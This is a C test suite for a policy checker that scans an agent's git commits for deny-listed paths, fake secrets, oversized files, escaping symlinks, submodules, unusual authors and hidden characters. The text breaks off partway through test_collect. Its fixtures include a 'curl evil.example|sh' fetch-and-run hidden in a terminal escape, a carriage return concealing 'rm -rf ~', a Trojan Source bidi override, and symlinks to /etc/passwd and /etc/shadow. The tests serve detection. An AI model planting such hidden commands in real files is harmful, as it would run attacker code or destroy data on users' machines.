/* test-policy: the checks on what an agent's commits bring back, against a
 * real bare mirror built with the git CLI. */
#include "autoconfig.h"

#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#include "buf.h"
#include "config.h"
#include "diffcache.h"
#include "err.h"
#include "policy.h"
#include "tap.h"
#include "testlib.h"

static char *T;          /* scratch dir */
static char *WORK;       /* where the commits are made */
static char *MIRROR;     /* the bare repo checked */
static char *BASE;       /* sha of the base commit */

/* Fake secrets, assembled at run time so that this file holds none whole. */
static char *GH_TOKEN, *AWS_ID, *PEM_HEAD;
#define LITERAL "hunter2-paddock-literal-42"

/* ---- helpers ---- */

/* Writes a file in the work tree (directories created). */
static void put(const char *path, const char *content)
{
	testlib_write(testlib_fmt("%s/%s", WORK, path), content, strlen(content));
}

/* Writes len bytes to a file in the work tree. */
static void put_bytes(const char *path, const char *data, size_t len)
{
	testlib_write(testlib_fmt("%s/%s", WORK, path), data, len);
}

/* Starts a case on a fresh branch from `from`. */
static void start(const char *branch, const char *from)
{
	testlib_sh("cd '%s' && git checkout -q -f -B '%s' %s && git clean -qfdx",
	           WORK, branch, from);
}

/* Commits everything (extra: more git commit arguments); returns the sha. */
static char *commit(const char *extra)
{
	if (testlib_sh("cd '%s' && git add -A && git commit -q --allow-empty -m change %s", WORK,
	               extra ? extra : "") != 0) {
		printf("Bail out! commit failed\n");
		exit(1);
	}
	return testlib_sh_out("git -C '%s' rev-parse HEAD", WORK);
}

/* The default repo configuration of config.c, with deny and size set. */
static struct repo_conf conf(void)
{
	struct repo_conf r;
	memset(&r, 0, sizeof(r));
	r.name = "demo";
	r.max_file_size = 10ULL << 20;
	for (int i = 0; i < POLICY_NRULES; i++)
		r.policy[i] = i == POLICY_AUTHORS || i == POLICY_INVISIBLE ? POLICY_WARN : POLICY_BLOCK;
	return r;
}

static struct policy_finding *F;
static size_t NF;
static struct err E;

/* Runs policy_check base..head; returns its status (findings in F, NF). */
static int check(const char *base, const char *head, const struct repo_conf *r,
                 const struct policy_secrets *s)
{
	policy_findings_free(F, NF);
	F = NULL;
	NF = 0;
	/* The mirror gets the commits as paddock's would: by a push. */
	if (testlib_sh("git -C '%s' push -q -f '%s' 'refs/heads/*:refs/heads/*'",
	               WORK, MIRROR) != 0) {
		printf("Bail out! push to the mirror failed\n");
		exit(1);
	}
	int rc = policy_check(MIRROR, base, head, r, s, &F, &NF, &E);
	if (rc < 0)
		printf("# policy_check: %s\n", E.msg);
	for (size_t i = 0; i < NF; i++)
		printf("#   %s [%s] %s\n", F[i].name, F[i].action == POLICY_BLOCK ? "block" : "warn",
		       F[i].detail);
	return rc;
}

static const struct policy_finding *find(const char *name)
{
	for (size_t i = 0; i < NF; i++)
		if (strcmp(F[i].name, name) == 0)
			return &F[i];
	return NULL;
}

static const char *detail(const char *name)
{
	const struct policy_finding *f = find(name);
	return f ? f->detail : "(no such finding)";
}

/* ---- glob ---- */

static void test_glob(void)
{
	static const struct {
		const char *pat, *path;
		int want;
	} t[] = {
		{ "**/*.pyc", "a.pyc", 1 },
		{ "**/*.pyc", "a/b/c.pyc", 1 },
		{ "**/*.pyc", "a/b/c.pyx", 0 },
		{ "*.pyc", "a/b.pyc", 0 },
		{ "**/node_modules/**", "node_modules/x", 1 },
		{ "**/node_modules/**", "a/node_modules/b/c.js", 1 },
		{ "**/node_modules/**", "a/node_modulesx/b", 0 },
		{ "**/node_modules/**", "node_modules", 0 },
		{ ".github/workflows/**", ".github/workflows/ci.yml", 1 },
		{ ".github/workflows/**", ".github/workflows/sub/x.yml", 1 },
		{ ".github/workflows/**", ".github/workflowsx/ci.yml", 0 },
		{ ".github/workflows/**", "x/.github/workflows/ci.yml", 0 },
		{ "Jenkinsfile", "Jenkinsfile", 1 },
		{ "Jenkinsfile", "sub/Jenkinsfile", 0 },
		{ "/Jenkinsfile", "Jenkinsfile", 1 },
		{ "a/**/b", "a/b", 1 },
		{ "a/**/b", "a/x/y/b", 1 },
		{ "a/**/b", "a/x/y/bc", 0 },
		{ "secrets/", "secrets/k.pem", 1 },
		{ "config/*.secret", "config/prod.secret", 1 },
		{ "config/*.secret", "config/sub/prod.secret", 0 },
		{ "f[0-9].txt", "f5.txt", 1 },
		{ "f[!0-9].txt", "f5.txt", 0 },
		{ "f[!0-9].txt", "fx.txt", 1 },
		{ "a?b", "a/b", 0 },
		{ "a?b", "axb", 1 },
		{ "a*", "a/b", 0 },
	};
	for (size_t i = 0; i < sizeof(t) / sizeof(t[0]); i++)
		is_int(policy_glob_match(t[i].pat, t[i].path), t[i].want, "glob %s %s %s",
		       t[i].pat, t[i].want ? "matches" : "does not match", t[i].path);
}

/* ---- cases ---- */

static void test_paths(void)
{
	struct repo_conf r = conf();
	char *deny[] = { "config/*.secret" };
	char *head;

	start("workflow", BASE);
	put(".github/workflows/ci.yml", "on: push\n");
	head = commit(NULL);
	is_int(check(BASE, head, &r, NULL), 0, "paths: workflow: check succeeds");
	is_int(NF, 1, "paths: one finding for an added workflow");
	if (NF) {
		is_str(F[0].name, "paths:.github/workflows/ci.yml", "paths: named by rule and path");
		is_str(F[0].path, ".github/workflows/ci.yml", "paths: the path");
		is_int(F[0].rule, POLICY_PATHS, "paths: rule");
		is_int(F[0].action, POLICY_BLOCK, "paths: blocks by default");
		ok(strstr(F[0].detail, "adds a path on the deny list (.github/workflows/**)") != NULL,
		   "paths: the detail names the pattern");
	}

	r.policy[POLICY_PATHS] = POLICY_WARN;
	check(BASE, head, &r, NULL);
	ok(NF == 1 && F[0].action == POLICY_WARN, "paths: policy-paths = warn gives a warning");
	r.policy[POLICY_PATHS] = POLICY_OFF;
	check(BASE, head, &r, NULL);
	is_int(NF, 0, "paths: policy-paths = off: no finding");
	r = conf();

	start("ci-delete", BASE);
	testlib_sh("cd '%s' && git rm -q .github/workflows/old.yml", WORK);
	head = commit(NULL);
	check(BASE, head, &r, NULL);
	ok(strstr(detail("paths:.github/workflows/old.yml"), "deletes a path on the deny list"),
	   "paths: a deleted workflow is a finding");

	start("ci-change", BASE);
	put(".github/workflows/old.yml", "on: [push, pull_request]\n");
	head = commit(NULL);
	check(BASE, head, &r, NULL);
	ok(strstr(detail("paths:.github/workflows/old.yml"), "changes a path on the deny list"),
	   "paths: a changed workflow is a finding");

	start("pycache", BASE);
	put("src/__pycache__/app.cpython-311.pyc", "junk\n");
	put("node_modules/left-pad/index.js", "module.exports = 1;\n");
	put("Jenkinsfile", "pipeline {}\n");
	put("docs/Jenkinsfile.md", "not a Jenkinsfile\n");
	head = commit(NULL);
	check(BASE, head, &r, NULL);
	is_int(NF, 3, "paths: __pycache__, node_modules and Jenkinsfile, not docs/Jenkinsfile.md");
	ok(find("paths:src/__pycache__/app.cpython-311.pyc") != NULL, "paths: __pycache__ file");
	ok(find("paths:node_modules/left-pad/index.js") != NULL, "paths: node_modules file");
	ok(find("paths:Jenkinsfile") != NULL, "paths: Jenkinsfile");

	start("custom-deny", BASE);
	put("config/prod.secret", "x\n");
	put("config/sub/dev.secret", "x\n");
	head = commit(NULL);
	check(BASE, head, &r, NULL);
	is_int(NF, 0, "paths: config/*.secret is not denied by default");
	r.deny = deny;
	r.ndeny = 1;
	check(BASE, head, &r, NULL);
	is_int(NF, 1, "paths: a deny pattern from the config adds one finding");
	ok(strstr(detail("paths:config/prod.secret"), "(config/*.secret)") != NULL,
	   "paths: config/prod.secret denied by config/*.secret");
	ok(!find("paths:config/sub/dev.secret"), "paths: * does not cross a slash");
}

static void test_secrets(void)
{
	struct repo_conf r = conf();
	const char *vals[] = { LITERAL, "abc", "" };
	struct policy_secrets sec = { vals, 3 };
	struct buf b = { 0 };
	char *head;

	start("secrets", BASE);
	buf_printf(&b, "%s\n", PEM_HEAD);
	for (int i = 0; i < 5; i++)
		buf_adds(&b, "MIIEowIBAAKCAQEAzJunkJunkJunkBase64Base64Base64Base64Base64Base64\n");
	buf_adds(&b, "-----END RSA PRIVATE KEY-----\n");
	put("deploy/id_rsa", b.data);
	buf_reset(&b);
	buf_printf(&b, "# settings\nDEBUG = False\nTOKEN = \"%s\"\n", GH_TOKEN);
	put("settings.py", b.data);
	buf_reset(&b);
	buf_printf(&b, "[default]\naws_access_key_id = %s\n", AWS_ID);
	put("aws.ini", b.data);
	buf_reset(&b);
	buf_printf(&b, "line one\nuser: %s\nkey: %s\nnothing\n", GH_TOKEN, AWS_ID);
	put("many.txt", b.data);
	head = commit(NULL);
	is_int(check(BASE, head, &r, NULL), 0, "secrets: check succeeds");
	is_int(NF, 4, "secrets: four files with secrets, four findings");
	is_str(detail("secrets:deploy/id_rsa"), "looks like a private key (line 1)",
	       "secrets: a PEM private key");
	is_str(detail("secrets:settings.py"), "looks like a GitHub token (line 3)",
	       "secrets: a GitHub token, with its line");
	is_str(detail("secrets:aws.ini"), "looks like an AWS access key id (line 2)",
	       "secrets: an AWS access key id");
	is_str(detail("secrets:many.txt"), "2 lines look like secrets (first: line 2, a GitHub token)",
	       "secrets: two in one file: one finding with the count");
	{
		int leak = 0;
		for (size_t i = 0; i < NF; i++)
			if (strstr(F[i].detail, GH_TOKEN) || strstr(F[i].detail, AWS_ID) ||
			    strstr(F[i].detail, "IOSFODNN") || strstr(F[i].detail, "MIIE") ||
			    strstr(F[i].detail, "A1b2C3"))
				leak = 1;
		ok(!leak, "secrets: no detail quotes the secret");
	}

	/* One file per kind of token (each assembled from two halves). */
	{
		static const struct {
			const char *file, *a, *b, *kind;
		} k[] = {
			{ "k/github_pat", "github_", "pat_11ABCDEFG0123456789ab_cdefghijklmnopqrstuvwxyz0123456789ABCDEFGHIJ", "a GitHub token" },
			{ "k/gitlab", "glp", "at-xYz12345678901234567", "a GitLab token" },
			{ "k/slack", "xox", "b-123456789012-123456789012-abcdefABCDEF", "a Slack token" },
			{ "k/anthropic", "sk-", "ant-api03-abcdefghijklmnopqrstuvwxyz0123456789", "an Anthropic API key" },
			{ "k/openai", "sk-", "proj-abc123def456ghi789jkl012mno345", "an OpenAI API key" },
			{ "k/openai_legacy", "sk-", "abcdefghijklmnopqrstuvwxyz0123456789ABCDEFGHIJKL", "an OpenAI API key" },
			{ "k/google", "AI", "zaSyA1234567890abcdefghijklmnopqrstuv", "a Google API key" },
			{ "k/stripe", "sk_", "live_abcdefghijklmnopqrstuvwx", "a Stripe secret key" },
			{ "k/aws_secret", "aws_secret_access_key = ", "wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY", "an AWS secret access key" },
			{ "k/pem_openssh", "-----BEGIN OPENSSH ", "PRIVATE KEY-----", "a private key" },
		};
		start("kinds", BASE);
		for (size_t i = 0; i < sizeof(k) / sizeof(k[0]); i++) {
			char *line = xasprintf("value: %s%s\n", k[i].a, k[i].b);
			put(k[i].file, line);
			free(line);
		}
		head = commit(NULL);
		check(BASE, head, &r, NULL);
		is_int(NF, sizeof(k) / sizeof(k[0]), "secrets: each kind of token is found");
		for (size_t i = 0; i < sizeof(k) / sizeof(k[0]); i++) {
			char *name = xasprintf("secrets:%s", k[i].file);
			char *want = xasprintf("looks like %s (line 1)", k[i].kind);
			is_str(detail(name), want, "secrets: %s", k[i].file);
			free(name);
			free(want);
		}
	}

	/* Literal values paddock holds. */
	start("literal", BASE);
	put("notes.txt", "abc is short\nthe value " LITERAL " is here\n");
	head = commit(NULL);
	is_int(check(BASE, head, &r, NULL), 0, "secrets: literal: check succeeds");
	is_int(NF, 0, "secrets: without the values, nothing is found");
	check(BASE, head, &r, &sec);
	is_int(NF, 1, "secrets: the literal value found once (short value \"abc\" ignored)");
	is_str(detail("secrets:notes.txt"),
	       "contains the value of a credential paddock holds (line 2)",
	       "secrets: a held credential, with its line");
	ok(NF && !strstr(F[0].detail, LITERAL), "secrets: the detail does not quote the value");

	/* Through policy_secrets_collect and the environment. */
	setenv("PADDOCK_GIT_TOKEN", LITERAL, 1);
	{
		struct config cfg;
		memset(&cfg, 0, sizeof(cfg));
		struct policy_secrets s2 = policy_secrets_collect(&cfg);
		check(BASE, head, &r, &s2);
		ok(find("secrets:notes.txt") != NULL,
		   "secrets: the value of $PADDOCK_GIT_TOKEN is found via policy_secrets_collect");
		free((void *)s2.values);
	}
	unsetenv("PADDOCK_GIT_TOKEN");

	/* Only added lines count: a secret already in the base is context. */
	start("legacy-edit", BASE);
	testlib_sh("cd '%s' && echo 'print(1)' >>legacy.py", WORK);
	head = commit(NULL);
	check(BASE, head, &r, NULL);
	is_int(NF, 0, "secrets: a line added next to an old secret: nothing");
	start("legacy-fix", BASE);
	put("legacy.py", "# an old mistake\nKEY = os.environ['KEY']\n");
	head = commit(NULL);
	check(BASE, head, &r, NULL);
	is_int(NF, 0, "secrets: replacing a line with a secret: nothing");
	start("legacy-rm", BASE);
	testlib_sh("cd '%s' && git rm -q legacy.py", WORK);
	head = commit(NULL);
	check(BASE, head, &r, NULL);
	is_int(NF, 0, "secrets: removing a file with a secret: nothing");

	/* Binary files are not scanned. */
	start("binary", BASE);
	buf_reset(&b);
	buf_add(&b, "\0\1\2", 3);
	buf_adds(&b, GH_TOKEN);
	put_bytes("blob.bin", b.data, b.len);
	head = commit(NULL);
	check(BASE, head, &r, NULL);
	is_int(NF, 0, "secrets: a binary file is not scanned");

	/* Rule off. */
	head = testlib_sh_out("git -C '%s' rev-parse secrets", WORK);
	r.policy[POLICY_SECRETS] = POLICY_OFF;
	check(BASE, head, &r, &sec);
	is_int(NF, 0, "secrets: policy-secrets = off: no finding");
	buf_free(&b);
}

static void test_size(void)
{
	struct repo_conf r = conf();
	char *head;

	/* Small files: the check reads headers, not blobs, but the diff
	 * around it inflates each (and valgrind.test runs this too). */
	r.max_file_size = 1ULL << 20;

	start("size", BASE);
	testlib_sh("cd '%s' && truncate -s 5M big.bin && truncate -s 1M edge.bin", WORK);
	head = commit(NULL);
	is_int(check(BASE, head, &r, NULL), 0, "size: check succeeds");
	is_int(NF, 1, "size: one finding (a file of exactly 1 MiB is not over)");
	if (NF) {
		is_str(F[0].name, "size:big.bin", "size: named after the file");
		is_str(F[0].path, "big.bin", "size: the path");
		is_str(F[0].detail, "is 5.0 MiB, over the limit of 1m (max-file-size)",
		       "size: the size in human units and the limit");
	}
	r.max_file_size = 10ULL << 20;
	check(BASE, head, &r, NULL);
	is_int(NF, 0, "size: under a 10m limit: nothing");
	r.max_file_size = 1ULL << 20;
	r.policy[POLICY_SIZE] = POLICY_OFF;
	check(BASE, head, &r, NULL);
	is_int(NF, 0, "size: policy-size = off: nothing");
}

static void test_symlinks(void)
{
	struct repo_conf r = conf();
	char *head;

	start("symlinks", BASE);
	testlib_sh("cd '%s' && mkdir -p a && ln -s /etc/passwd passwd && ln -s ../../x a/up "
	           "&& ln -s ../README a/ok && ln -s ./b/../c a/ok2 && ln -s ../a/../../y a/sneaky "
	           "&& ln -s src/app.py inside", WORK);
	head = commit(NULL);
	is_int(check(BASE, head, &r, NULL), 0, "symlinks: check succeeds");
	is_int(NF, 3, "symlinks: three links point out, three do not");
	is_str(detail("symlinks:passwd"), "is a symlink to an absolute path (/etc/passwd)",
	       "symlinks: a link to /etc/passwd");
	is_str(detail("symlinks:a/up"), "is a symlink that points outside the repository (../../x)",
	       "symlinks: ../../x from a/ leaves the repository");
	ok(find("symlinks:a/sneaky") != NULL, "symlinks: ../a/../../y from a/ leaves it too");
	ok(!find("symlinks:a/ok") && !find("symlinks:a/ok2") && !find("symlinks:inside"),
	   "symlinks: links inside the repository are fine");
	r.policy[POLICY_SYMLINKS] = POLICY_OFF;
	check(BASE, head, &r, NULL);
	is_int(NF, 0, "symlinks: policy-symlinks = off: nothing");
	r = conf();

	/* Files that become links (typechange): one delta each. */
	start("typechange", BASE);
	testlib_sh("cd '%s' && rm README .github/workflows/old.yml && ln -s /etc/shadow README "
	           "&& ln -s ../../README .github/workflows/old.yml", WORK);
	head = commit(NULL);
	check(BASE, head, &r, NULL);
	ok(strstr(detail("symlinks:README"), "absolute path (/etc/shadow)") != NULL,
	   "symlinks: a file replaced by a link is checked");
	is_int(NF, 2, "symlinks: typechange: one finding per path (no delete + add)");
	ok(strstr(detail("paths:.github/workflows/old.yml"), "changes a path") != NULL,
	   "symlinks: a workflow replaced by a link is a changed path");
}

static void test_submodules(void)
{
	struct repo_conf r = conf();
	char *head, *sub;

	start("submodule", BASE);
	put(".gitmodules", "[submodule \"sub\"]\n\tpath = sub\n\turl = https://example.com/x.git\n");
	testlib_sh("cd '%s' && git add .gitmodules && "
	           "git update-index --add --cacheinfo 160000,%s,sub", WORK, BASE);
	sub = head = testlib_sh_out("cd '%s' && git commit -q -m sub && git rev-parse HEAD", WORK);
	is_int(check(BASE, head, &r, NULL), 0, "submodules: check succeeds");
	is_int(NF, 2, "submodules: the gitlink and .gitmodules");
	ok(strstr(detail("submodules:sub"), "adds a submodule") != NULL, "submodules: gitlink added");
	ok(strstr(detail("submodules:.gitmodules"), "adds .gitmodules") != NULL,
	   "submodules: .gitmodules added");
	ok(NF == 2 && strcmp(F[0].path, ".gitmodules") == 0 && strcmp(F[1].path, "sub") == 0,
	   "submodules: ordered by path");

	start("submodule-rm", sub);
	testlib_sh("cd '%s' && git rm -q --cached sub", WORK);
	head = testlib_sh_out("cd '%s' && git commit -q -m rm && git rev-parse HEAD", WORK);
	check(sub, head, &r, NULL);
	is_int(NF, 1, "submodules: removing a gitlink is one finding");
	is_str(detail("submodules:sub"), "removes a submodule", "submodules: gitlink removed");

	r.policy[POLICY_SUBMODULES] = POLICY_OFF;
	check(BASE, sub, &r, NULL);
	is_int(NF, 0, "submodules: policy-submodules = off: nothing");
}

static void test_authors(void)
{
	struct repo_conf r = conf();
	char *head, *eve1, *esc;

	start("authors", BASE);
	put("a.txt", "1\n");
	eve1 = commit("--author='Eve Example <eve@example.com>'");
	put("b.txt", "2\n");
	commit(NULL);
	put("c.txt", "3\n");
	head = commit("--author='Eve Example <eve@example.com>'");
	is_int(check(BASE, head, &r, NULL), 0, "authors: check succeeds");
	is_int(NF, 1, "authors: one finding per distinct author (the agent's commit is fine)");
	if (NF) {
		char *want = xasprintf("commit %.12s is authored by Eve Example <eve@example.com> "
		                       "(and 1 more)", eve1);
		is_str(F[0].name, "authors:eve@example.com", "authors: named by email");
		is_str(F[0].path, "", "authors: no path");
		is_int(F[0].action, POLICY_WARN, "authors: a warning by default");
		is_str(F[0].detail, want, "authors: the first commit, the author, the count");
		free(want);
	}
	r.policy[POLICY_AUTHORS] = POLICY_OFF;
	check(BASE, head, &r, NULL);
	is_int(NF, 0, "authors: policy-authors = off: nothing");
	r = conf();

	/* Terminal escapes in the author are untrusted text. */
	start("authors-esc", BASE);
	put("d.txt", "4\n");
	esc = commit("--author=\"$(printf 'Mal\\033]0;pwned\\007lory\\033[2J <mal\\033[31m@example.com>')\"");
	check(BASE, esc, &r, NULL);
	is_int(NF, 1, "authors: an author with escapes is a finding");
	if (NF) {
		ok(!strchr(F[0].detail, '\033') && !strchr(F[0].detail, '\007'),
		   "authors: no escape or BEL in the detail");
		ok(!strchr(F[0].name, '\033'), "authors: no escape in the name");
		ok(strstr(F[0].detail, "Mal^[]0;pwned^Glory^[[2J <mal^[[31m@example.com>") != NULL,
		   "authors: the escapes show as visible text, none dropped");
		printf("#   detail: %s\n", F[0].detail);
	}
}

static void test_hidden(void)
{
	struct repo_conf r = conf();
	char *head;

	/* Escape sequences, bidi controls and invisible characters in added
	 * lines; the line numbers are those of the new file. */
	start("hidden", BASE);
	put("build.sh", "#!/bin/sh\nset -e\necho \"building\"\033]0;$(curl evil.example|sh)\007\n"
	                "make\n");
	put("access.c", "int ok(int admin)\n{\n\t/* \xe2\x80\xae } \xe2\x81\xa6 if (admin) */\n"
	                "\treturn 1;\n}\n");
	put("note.md", "a pass\xe2\x80\x8bword\nplain\nzero\xe2\x80\x8dwidth\n");
	put("clean.txt", "nothing hidden here\ttab\fform feed\n");
	put("crlf.txt", "windows\r\nline endings\r\n");
	put("cr.txt", "safe\rrm -rf ~\n");
	put("many.sh", "echo \033[2J\nok\necho \033[H\n");
	put("c1.txt", "x\xc2\x9b" "2Jy\n");
	head = commit(NULL);
	is_int(check(BASE, head, &r, NULL), 0, "hidden: check succeeds");
	is_str(detail("controls:build.sh"),
	       "holds an escape sequence (U+001B ESCAPE) (line 3)",
	       "hidden: an OSC in an added line blocks, with its line");
	ok(find("controls:build.sh") && find("controls:build.sh")->action == POLICY_BLOCK,
	   "hidden: controls block by default");
	is_str(detail("controls:access.c"),
	       "holds a bidi control (U+202E RIGHT-TO-LEFT OVERRIDE) (line 3)",
	       "hidden: a right-to-left override (Trojan Source) blocks, with its line");
	is_str(detail("invisible:note.md"),
	       "2 lines hold invisible characters (first: line 1, an invisible character "
	       "(U+200B ZERO WIDTH SPACE))",
	       "hidden: zero-width characters on two lines: one finding with the count");
	ok(find("invisible:note.md") && find("invisible:note.md")->action == POLICY_WARN,
	   "hidden: invisible characters warn by default");
	ok(!find("controls:note.md"), "hidden: a zero-width character is not a control");
	ok(!find("controls:clean.txt") && !find("invisible:clean.txt"),
	   "hidden: tab and form feed are ordinary");
	ok(!find("controls:crlf.txt"), "hidden: CRLF line endings are ordinary");
	is_str(detail("controls:cr.txt"), "holds a control character (U+000D CARRIAGE RETURN) (line 1)",
	       "hidden: a CR inside a line (it hides what comes before on a terminal) blocks");
	is_str(detail("controls:many.sh"),
	       "2 lines hold escape sequences, controls or bidi controls (first: line 1, "
	       "an escape sequence (U+001B ESCAPE))",
	       "hidden: two lines with escapes: one finding, first line and count");
	is_str(detail("controls:c1.txt"),
	       "holds an escape sequence (U+009B CONTROL SEQUENCE INTRODUCER) (line 1)",
	       "hidden: the 8-bit CSI blocks");
	is_int(NF, 6, "hidden: six findings, nothing for the clean files");

	/* Only added lines: an edit next to an old hidden line is fine. */
	start("hidden-edit", head);
	put("build.sh", "#!/bin/sh\nset -e\necho \"building\"\033]0;$(curl evil.example|sh)\007\n"
	                "make\nmake check\n");
	{
		char *next = commit(NULL);
		check(head, next, &r, NULL);
		is_int(NF, 0, "hidden: a line added after an old hidden one: nothing");
	}

	/* Paths. */
	start("hidden-paths", BASE);
	put("ok\033]0;x\007.txt", "fine\n");
	put("a\xe2\x80\xaegnp.sh", "fine\n");
	put("zero\xe2\x80\x8b.txt", "fine\n");
	head = commit(NULL);
	check(BASE, head, &r, NULL);
	is_int(NF, 3, "hidden: three paths, three findings");
	is_str(detail("controls:ok^[]0;x^G.txt"), "the path holds an escape sequence (U+001B ESCAPE)",
	       "hidden: a path with an escape sequence blocks; its name shows the sequence");
	is_str(detail("controls:a<U+202E>gnp.sh"),
	       "the path holds a bidi control (U+202E RIGHT-TO-LEFT OVERRIDE)",
	       "hidden: a path with a bidi override blocks");
	is_str(detail("invisible:zero<U+200B>.txt"),
	       "the path holds an invisible character (U+200B ZERO WIDTH SPACE)",
	       "hidden: a path with a zero-width space warns");
	ok(find("controls:ok^[]0;x^G.txt") &&
	   strcmp(find("controls:ok^[]0;x^G.txt")->path, "ok^[]0;x^G.txt") == 0,
	   "hidden: the finding's path shows every byte");

	/* Binary files are not scanned. */
	start("hidden-binary", BASE);
	put_bytes("blob.bin", "\0\1\2\033]0;x\007\xe2\x80\xae\n", 13);
	head = commit(NULL);
	check(BASE, head, &r, NULL);
	is_int(NF, 0, "hidden: a binary file is not scanned");

	/* Configurable like the other rules. */
	head = testlib_sh_out("git -C '%s' rev-parse hidden", WORK);
	r.policy[POLICY_CONTROLS] = POLICY_WARN;
	r.policy[POLICY_INVISIBLE] = POLICY_BLOCK;
	check(BASE, head, &r, NULL);
	ok(find("controls:access.c") && find("controls:access.c")->action == POLICY_WARN &&
	   find("invisible:note.md") && find("invisible:note.md")->action == POLICY_BLOCK,
	   "hidden: policy-controls = warn and policy-invisible = block");
	r.policy[POLICY_CONTROLS] = POLICY_OFF;
	r.policy[POLICY_INVISIBLE] = POLICY_OFF;
	check(BASE, head, &r, NULL);
	is_int(NF, 0, "hidden: both off: nothing");
}

static void test_mixed(void)
{
	struct repo_conf r = conf();
	struct buf b = { 0 };
	char *head;

	start("mixed", BASE);
	buf_printf(&b, "t = '%s'\n", GH_TOKEN);
	put("z.py", b.data);
	put("a.py", b.data);
	put("Jenkinsfile", "x\n");
	put(".github/workflows/ci.yml", "on: push\n");
	/* Two paths that clean to the same text: names stay unique. */
	put("x\001y.pyc", "1\n");
	put("x^Ay.pyc", "2\n");
	testlib_sh("cd '%s' && ln -s /etc/passwd evil", WORK);
	head = commit("--author='Eve <eve@example.com>'");
	check(BASE, head, &r, NULL);
	static const char *const want[] = {
		"paths:.github/workflows/ci.yml", "paths:Jenkinsfile", "paths:x^Ay.pyc",
		"paths:x^Ay.pyc:2", "secrets:a.py", "secrets:z.py", "symlinks:evil",
		"controls:x^Ay.pyc", "authors:eve@example.com",
	};
	int same = NF == sizeof(want) / sizeof(want[0]);
	for (size_t i = 0; same && i < NF; i++)
		same = strcmp(F[i].name, want[i]) == 0;
	ok(same, "mixed: findings ordered by rule, then path, with unique names");
	{
		int ctl = 0;
		for (size_t i = 0; i < NF; i++)
			ctl |= strchr(F[i].path, '\001') != NULL || strchr(F[i].name, '\001') != NULL;
		ok(!ctl, "mixed: control characters in paths are cleaned");
	}

	/* Appending: what is in *out stays. */
	{
		struct policy_finding *out = xcalloc(1, sizeof(*out));
		size_t n = 1;
		struct err e;
		out[0].path = xstrdup("keep");
		out[0].detail = xstrdup("keep");
		out[0].name = xstrdup("keep");
		ok(policy_check(MIRROR, BASE, head, &r, NULL, &out, &n, &e) == 0 && n == 1 + NF &&
		   strcmp(out[0].name, "keep") == 0 && strcmp(out[1].name, F[0].name) == 0,
		   "mixed: findings are appended after what *out holds");
		policy_findings_free(out, n);
	}
	buf_free(&b);
}

/* The line scans read the diff's patches (renames detected), as the gate's
 * one pass hands them over (policy_begin, policy_file, policy_end). */
static void test_renames_and_pass(void)
{
	struct repo_conf r = conf();
	struct buf b = { 0 };

	start("renames", BASE);
	for (int i = 1; i <= 40; i++)
		buf_printf(&b, "line_%d = %d\n", i, i);
	put("long.py", b.data);
	const char *base2 = commit(NULL);
	buf_free(&b);
	/* long.py moved, a token put in at line 10; legacy.py (whose token
	 * the base has) moved as it is; a token on a last line without a
	 * newline. */
	testlib_sh("cd '%s' && git mv long.py moved.py && git mv legacy.py legacy2.py && "
	           "sed -i '10s/.*/KEY = \"%s\"/' moved.py && printf 'a\\nb\\nK = \"%s\"' >tail.py",
	           WORK, GH_TOKEN, GH_TOKEN);
	const char *head = commit(NULL);
	ok(check(base2, head, &r, NULL) == 0, "renames: the check runs");
	ok(strstr(detail("secrets:moved.py"), "line 10") != NULL,
	   "renames: a token the change adds to a renamed file, at its line (%s)",
	   detail("secrets:moved.py"));
	ok(find("secrets:legacy2.py") == NULL,
	   "renames: a file moved as it is adds no line (its token is the base's)");
	ok(strstr(detail("secrets:tail.py"), "line 3") != NULL,
	   "renames: a last line without a newline is scanned (%s)", detail("secrets:tail.py"));

	/* The gate's way: the same findings from one pass through diffcache,
	 * computed, then again from the kept entry. */
	const char *dir = testlib_fmt("%s/diffs-renames", T);
	for (int round = 0; round < 2; round++) {
		struct policy_run *run = NULL;
		struct policy_finding *out = NULL;
		size_t n = 0;
		struct err e = {{0}};
		int rc = policy_begin(MIRROR, base2, head, &r, NULL, &run, &e);
		if (rc == 0)
			rc = diffcache_each(dir, MIRROR, base2, head, policy_file, run, &e);
		if (rc == 0)
			policy_end(run, &out, &n);
		else
			policy_run_free(run);
		int same = rc == 0 && n == NF;
		for (size_t i = 0; same && i < n; i++)
			same = !strcmp(out[i].name, F[i].name) && !strcmp(out[i].detail, F[i].detail);
		ok(same, "renames: policy_begin, policy_file and policy_end through diffcache%s: "
		   "policy_check's findings", round ? " (the kept entry)" : "");
		policy_findings_free(out, n);
	}
	ok(access(testlib_keep(diffcache_path(dir, base2, head)), F_OK) == 0,
	   "renames: the pass kept the diff");
}

static void test_clean_and_errors(void)
{
	struct repo_conf r = conf();
	struct policy_finding *out = NULL;
	size_t n = 0;
	struct err e;
	char *head;

	start("clean", BASE);
	put("src/app.py", "def main():\n    return 0\n\ndef helper(x):\n    return x + 1\n");
	put("docs/sk-learn-and-similar-words-here.md", "we use sk-learn-style-naming-convention\n");
	testlib_sh("cd '%s' && git rm -q docs/old.md", WORK);
	head = commit(NULL);
	is_int(check(BASE, head, &r, NULL), 0, "clean: check succeeds");
	is_int(NF, 0, "clean: an ordinary change has no findings");
	is_int(check(BASE, BASE, &r, NULL), 0, "clean: base..base succeeds");
	is_int(NF, 0, "clean: base..base has no findings");

	char *nomirror = xasprintf("%s/nosuch.git", T);
	ok(policy_check(nomirror, BASE, head, &r, NULL, &out, &n, &e) < 0 &&
	   strstr(e.msg, "cannot open the mirror") && n == 0 && out == NULL,
	   "errors: a missing mirror is an error, nothing appended");
	printf("#   %s\n", e.msg);
	free(nomirror);
	ok(policy_check(MIRROR, BASE, "0123456789012345678901234567890123456789", &r, NULL, &out,
	                &n, &e) < 0 && strstr(e.msg, "is not in the mirror") && n == 0,
	   "errors: an unknown head is an error");
	printf("#   %s\n", e.msg);
}

static void test_collect(void)
{
	struct config cfg;
	struct repo_conf repos[2];
	struct policy_secrets s;
	int has_a = 0, has_b = 0, has_c = 0, has_empty = 0;

	memset(&cfg, 0, sizeof(cfg));
	repos[0] = conf();
	repos[1] = conf();
	repos[0].token_env = "POLICY_TEST_TOKEN";
	repos[1].github_token_env = "POLICY_TEST_GH";
	cfg.repos = repos;
	cfg.nrepos = 2;
	setenv("POLICY_TEST_TOKEN", "token-a-123456", 1);
	setenv("POLICY_TEST_GH", "token-b-123456", 1);
	setenv("PADDOCK_GIT_TOKEN", "token-a-123456", 1);   /* a duplicate */
	setenv("GITHUB_TOKEN", "", 1);                      /* empty */
